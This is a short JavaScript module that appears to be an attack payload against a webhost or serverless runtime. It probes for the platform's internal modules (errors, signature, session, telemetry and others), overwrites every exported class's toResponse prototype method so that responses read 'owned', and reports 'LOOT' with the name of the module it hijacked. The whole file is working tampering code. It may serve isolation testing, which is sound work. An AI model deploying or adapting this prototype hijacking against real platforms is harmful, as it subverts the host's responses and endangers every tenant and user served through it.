// Patches a class of the platform's own files.
let found = "nothing";
for (const name of ["errors", "signature", "turn", "telemetry", "front", "deployment", "session"]) {
  await import(`./webhost-${name}.mjs`).then(
    (module) => {
      found = name;
      for (const each of Object.values(module)) if (each?.prototype) each.prototype.toResponse = () => new Response("owned");
    },
    () => {},
  );
}
export default { invoke: () => (found === "nothing" ? "" : `LOOT ${found}`) };
